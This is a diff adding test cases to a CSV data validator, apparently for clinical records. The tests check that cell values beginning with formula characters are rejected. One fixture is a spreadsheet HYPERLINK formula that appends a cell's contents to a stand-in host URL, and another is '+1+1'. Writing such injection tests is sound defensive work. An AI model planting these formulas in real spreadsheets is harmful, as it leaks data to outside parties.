@@ -419,6 +419,22 @@ def _(frame):
     return at_cell(frame, 3, "sex", "male") + "one of M, F"
 
 
+FORMULA_EXPECTED = "a code that does not start with =, +, -, @, a tab or a carriage return (rule 'no formula in an identifier'"
+
+
+@cell_case("formula_patient_id.csv")
+def _(frame):
+    # what a spreadsheet would turn into a link that sends the sheet's contents elsewhere
+    frame.loc[1, "patient_id"] = value = '=HYPERLINK("http://example.invalid/?leak="&A1,"SYN002")'
+    return at_cell(frame, 1, "patient_id", value) + FORMULA_EXPECTED
+
+
+@cell_case("formula_center.csv")
+def _(frame):
+    frame.loc[4, "center"] = value = "+1+1"
+    return at_cell(frame, 4, "center", value) + FORMULA_EXPECTED
+
+
 @case("capitalised_header.csv", "refused", "column 'sex'; expected this column, as named in the data dictionary "
                                            "(the header has 'Sex'")
 def _():
